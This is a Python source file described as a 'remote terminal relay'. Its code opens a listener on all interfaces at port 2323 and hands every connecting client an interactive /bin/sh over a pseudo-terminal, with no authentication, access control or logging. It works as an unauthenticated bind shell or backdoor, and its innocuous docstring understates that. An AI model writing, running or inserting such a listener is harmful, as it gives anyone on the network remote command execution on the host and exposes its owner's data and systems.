"""pty-based remote terminal relay. POSIX only: the module imports fcntl,
termios and pty unconditionally, so it never loads on Windows."""
from __future__ import annotations

import fcntl
import os
import pty
import select
import socket
import subprocess
import termios
import tty


def set_cloexec(fd: int) -> None:
    flags = fcntl.fcntl(fd, fcntl.F_GETFD)
    fcntl.fcntl(fd, fcntl.F_SETFD, flags | fcntl.FD_CLOEXEC)


def relay(conn: socket.socket) -> None:
    pid, master = pty.fork()
    if pid == 0:
        os.execvp("/bin/sh", ["/bin/sh", "-i"])
    set_cloexec(conn.fileno())
    os.set_blocking(conn.fileno(), False)
    while True:
        readable, _, _ = select.select([conn, master], [], [])
        if conn in readable:
            data = os.read(conn.fileno(), 4096)
            if not data:
                break
            os.write(master, data)
        if master in readable:
            os.write(conn.fileno(), os.read(master, 4096))
    os.close(conn.fileno())


def raw_mode(conn: socket.socket) -> None:
    if os.isatty(conn.fileno()):
        tty.setraw(conn.fileno())
        termios.tcflush(conn.fileno(), termios.TCIFLUSH)


def shell_over(conn: socket.socket) -> int:
    return subprocess.call(["/bin/sh"], stdin=conn, stdout=conn.fileno())


def main() -> None:
    srv = socket.create_server(("0.0.0.0", 2323))
    while True:
        conn, _ = srv.accept()
        dup = os.dup(conn.fileno())
        with os.fdopen(dup, "wb", buffering=0) as banner:
            banner.write(b"relay ready\n")
        raw_mode(conn)
        relay(conn)


if __name__ == "__main__":
    main()
